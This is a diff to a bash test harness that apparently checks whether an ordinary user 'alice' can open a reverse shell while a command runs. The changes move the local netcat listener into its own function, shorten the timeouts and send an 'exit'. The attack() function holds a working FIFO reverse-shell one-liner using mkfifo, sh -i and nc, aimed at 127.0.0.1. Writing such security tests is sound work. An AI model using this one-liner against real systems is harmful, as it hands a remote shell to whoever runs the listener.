@@ -53,19 +53,26 @@ is_listening() { ss -ltn | grep -q "127.0.0.1:$port "; }
 
 shell_answers() { grep -qs alice /run/heard; }
 
+# On its own, since bash holds the end of a pipe until the function returns.
+listen() {
+    rm -f /run/heard
+    exec {typed}> >(exec timeout 200 nc -N -l 127.0.0.1 $port >/run/heard 2>/dev/null)
+    listener=$!
+}
+
 # A reverse shell over a FIFO, by an ordinary user, while the command runs.
 attack() {  # COMMAND...
     local typed listener status=1
-    exec {typed}> >(exec timeout 600 nc -N -l 127.0.0.1 $port >/run/heard 2>/dev/null)
-    listener=$!
+    listen
     await 60 is_listening
-    runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 600 nc 127.0.0.1 $port >f" >/dev/null 2>&1 {typed}>&- &
+    runuser -u alice -- sh -c "cd /tmp; rm -f f; mkfifo f; cat f | sh -i 2>&1 | timeout 200 nc 127.0.0.1 $port >f" >/dev/null 2>&1 {typed}>&- &
     echo 'id -un' >&$typed
     if await 60 shell_answers; then
         "$@" && status=0
     else
         echo "nobody answered: $(cat /run/heard)"
     fi
+    echo exit >&$typed
     exec {typed}>&-
     wait $listener
     return $status
